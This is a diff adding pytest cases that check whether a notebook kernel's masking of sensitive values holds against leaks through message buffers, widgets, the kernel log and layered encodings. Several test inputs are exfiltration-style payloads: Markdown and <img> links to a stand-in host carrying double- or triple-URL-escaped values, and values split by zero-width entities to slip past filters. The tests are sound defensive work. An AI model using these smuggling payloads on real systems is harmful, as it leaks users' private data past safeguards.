@@ -6,8 +6,11 @@ receives; each has a benign twin that still runs with its plain values intact.
 """
 from __future__ import annotations
 
+import html
 import json
+import struct
 import time
+import urllib.parse
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -156,3 +159,75 @@ def test_kernel_info_is_answered_whole(k: Kernel) -> None:
 
 def test_workdir_is_real(k: Kernel) -> None:
     assert Path(k.workdir, "wh.duckdb").exists()
+
+
+def _buffers(result: Reply) -> str:
+    return "\n".join(bytes(b).decode("latin-1") for m in result.messages
+                     for b in m.get("buffers", []))
+
+
+BUFFERS = [
+    pytest.param("from comm import create_comm\nc = create_comm(target_name='t', data={})\n"
+                 "c.send({'v': 1}, buffers=[','.join(S[10:20]).encode()])", id="comm-buffers"),
+    pytest.param("import ipywidgets as w\nw.Image(value=','.join(E[5:10]).encode(), format='png')",
+                 id="widget-bytes-trait"),
+    pytest.param("_k = get_ipython().kernel\n_k.session.send(_k.iopub_socket, 'display_data', "
+                 "{'data': {'text/plain': 'x'}, 'metadata': {}}, parent=_k.get_parent(), "
+                 "buffers=[memoryview(E[51].encode())])", id="session-send-buffers"),
+]
+
+
+@pytest.mark.parametrize("code", BUFFERS)
+def test_no_raw_value_in_message_buffers(k: Kernel, code: str) -> None:
+    r = k.run(code)
+    assert_no_raw(wire(r) + _buffers(r))
+
+
+def test_binary_and_plain_buffers_are_sent_as_they_are(k: Kernel) -> None:
+    r = k.ok("import ipywidgets as w, struct\n"
+             "png = b'\\x89PNG\\r\\n\\x1a\\n' + struct.pack('>8d', *range(8))\n"
+             "w.Image(value=png, format='png')\n"
+             "from comm import create_comm\nc = create_comm(target_name='t', data={})\n"
+             "c.send({'v': 1}, buffers=[b'Paris,Lyon,order 100000245'])")
+    got = [bytes(b) for m in r.messages for b in m.get("buffers", [])]
+    png = b"\x89PNG\r\n\x1a\n" + struct.pack(">8d", *range(8))
+    assert png in got and b"Paris,Lyon,order 100000245" in got, got
+
+
+LAYERED = [
+    pytest.param("from IPython.display import HTML\nHTML('<p>' + '&#8203;'.join(E[52]) + '</p>')",
+                 id="html-zero-width-references"),
+    pytest.param("from IPython.display import HTML\n"
+                 "HTML('<p>' + '&ZeroWidthSpace;'.join(E[53]) + '</p>')", id="html-named-zwsp"),
+    pytest.param("from IPython.display import Markdown\nimport urllib.parse as u\n"
+                 "Markdown(f'![x](http://e.example/?d={u.quote(u.quote(E[54]))})')",
+                 id="markdown-double-url-escape"),
+    pytest.param("from IPython.display import HTML\nimport urllib.parse as u\n"
+                 "HTML(f'<img src=\"http://e.example/?d={u.quote(u.quote(u.quote(E[55])))}\">')",
+                 id="img-triple-url-escape"),
+]
+
+
+@pytest.mark.parametrize("code", LAYERED)
+def test_values_under_two_layers_of_spelling_are_masked(k: Kernel, code: str) -> None:
+    text = wire(k.run(code))
+    for _ in range(3):
+        text = urllib.parse.unquote(html.unescape(text))
+    assert_no_raw(text.replace("\u200b", ""))
+
+
+def test_plain_layered_spellings_are_shown_as_written(k: Kernel) -> None:
+    page = ("<p>Par&#8203;is</p><a href=\"http://e.example/?q=a%2540b&amp;n=100%2525\">x</a>")
+    r = k.ok(f"from IPython.display import HTML\nHTML({page!r})")
+    assert r.mimes()["text/html"] == page
+
+
+def test_kernel_log_is_masked(k: Kernel) -> None:
+    k.ok("import io\n_h = get_ipython().kernel.log.handlers[0]\n_buf = io.StringIO()\n"
+         "_old = _h.setStream(_buf)\n"
+         "try:\n    get_ipython().kernel.log.error('who: %s', E[56])\n"
+         "    get_ipython().kernel.log.error('plain: %s', 'order 100000245, Paris')\n"
+         "finally:\n    _h.setStream(_old)\n"
+         "assert E[56] not in _buf.getvalue(), 'raw in the kernel log'\n"
+         "assert '@example.com' in _buf.getvalue()\n"
+         "assert 'plain: order 100000245, Paris' in _buf.getvalue()")
